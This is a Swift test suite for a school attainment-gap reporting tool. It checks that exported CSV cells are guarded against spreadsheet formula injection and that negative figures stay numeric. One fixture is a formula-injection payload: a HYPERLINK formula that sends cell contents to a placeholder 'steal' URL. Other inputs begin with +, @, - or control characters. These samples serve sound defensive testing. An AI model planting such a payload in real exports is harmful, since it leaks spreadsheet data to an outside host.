import CSVFormat
import Foundation
import GapTrackDomain
@testable import GapTrackReports
import Testing

/// The CSV reports are opened in spreadsheets: text that someone typed (a provider, a subject, an
/// intervention type, a funding source, a file name) must not run as a formula there, and the
/// figures, negative ones included, must stay numbers.
@Suite struct SpreadsheetSafeCSVTests {
    static let formula = "=HYPERLINK(\"http://example.invalid/steal?d=\"&A1,\"Open\")"

    /// The sample report with hostile text wherever the CSV shows typed text, and a subject whose
    /// disadvantaged students did better than the others (a negative gap).
    static func hostileTermlyReport() -> TermlyGapReport {
        var data = SampleReport.data()
        data.provider = ReportProvider(code: formula, name: formula, kind: .school)
        data.subjects[1] = SampleReport.subject("+maths", assessment: "@mock", disadvantaged: 53, others: 126, gap: -1.3, seed: 12)
        data.imports[0].file = "-students.csv"
        data.supportByType[0].type = "\ttutoring"
        data.funding[0].source = "\r=1+1"
        return TermlyGapReportBuilder().build(data)
    }

    @Test func termlyCSVGuardsTypedTextAndKeepsNegativeGapsAsNumbers() throws {
        let report = Self.hostileTermlyReport()
        let rows = try CSVReader(string: CSVReportRenderer.render(report)).readAll().dropFirst()
        #expect(!rows.isEmpty && rows.allSatisfy { $0.fields[0] == "'" + Self.formula })
        // No cell anywhere would start a formula.
        for row in rows {
            for cell in row.fields { #expect(!SpreadsheetSafeText.needsGuard(cell), "line \(row.lineNumber): \(cell)") }
        }

        let gap = try #require(report.attainment(subject: "+maths")?.gapIndex.value)
        #expect(gap.value < 0)
        let gapRow = try #require(rows.first { $0.fields[3] == "attainment" && $0.fields[6] == "gap_index" && $0.fields[4] == "'+maths" })
        #expect(gapRow.fields[5] == "'@mock")
        #expect(gapRow.fields[8] == gap.plainText && gapRow.fields[8].hasPrefix("-") && Double(gapRow.fields[8]) != nil)
        #expect(gapRow.fields[9] == FixedDecimal.format(try #require(gap.lower), decimals: 2) && gapRow.fields[9].hasPrefix("-"))
        let scoreGap = try #require(rows.first { $0.fields[4] == "'+maths" && $0.fields[6] == "mean_score_gap" })
        #expect(scoreGap.fields[8].hasPrefix("-") && Double(scoreGap.fields[8]) != nil)

        #expect(rows.contains { $0.fields[3] == "data_cut" && $0.fields[13].hasPrefix("'-students.csv, imported ") })
        #expect(rows.contains { $0.fields[3] == "support" && $0.fields[7] == "'\ttutoring" })
        #expect(rows.contains { $0.fields[3] == "support_funding" && $0.fields[7] == "'\r=1+1" })

        // Every figure is the unguarded one; every text cell is the typed text, guarded only if it must be.
        let raw = CSVReportRenderer.rows(report).map(\.fields)
        #expect(raw.count == rows.count)
        for (written, original) in zip(rows, raw) {
            #expect(written.fields[8...11] == original[8...11])
            #expect(written.fields == original.map(SpreadsheetSafeText.cell))
        }
    }

    @Test func impactCSVGuardsTypedText() throws {
        var data = ImpactRendererTests.schoolData()
        data.provider = ReportProvider(code: Self.formula, name: Self.formula, kind: .school)
        data.cohort = ReportCohort(code: "@year-11", label: "Year 11")
        data.imports[0].file = "+assessments.csv"
        let report = ImpactReportBuilder().build(data)
        let rows = try CSVReader(string: ImpactCSVRenderer.render(report)).readAll().dropFirst()
        #expect(!rows.isEmpty && rows.allSatisfy { $0.fields[0] == "'" + Self.formula && $0.fields[1] == "'@year-11" })
        #expect(rows.contains { $0.fields[3] == "data_cut" && $0.fields[13].hasPrefix("'+assessments.csv, imported ") })
        let raw = ImpactCSVRenderer.rows(report, includeDataCutAndMethod: true)
        #expect(raw.count == rows.count)
        for (written, original) in zip(rows, raw) {
            #expect(written.fields[8...11] == original[8...11])
            for cell in written.fields { #expect(!SpreadsheetSafeText.needsGuard(cell)) }
        }
    }

    @Test func aTermlyReportsImpactSectionsAreGuardedToo() throws {
        var report = Self.hostileTermlyReport()
        var data = ImpactRendererTests.schoolData()
        data.provider = ReportProvider(code: Self.formula, name: Self.formula, kind: .school)
        report.impact = [ImpactReportBuilder().build(data)]
        let rows = try CSVReader(string: CSVReportRenderer.render(report)).readAll().dropFirst()
        #expect(rows.contains { $0.fields[3] == "impact" })
        #expect(rows.allSatisfy { $0.fields[0] == "'" + Self.formula })
    }
}
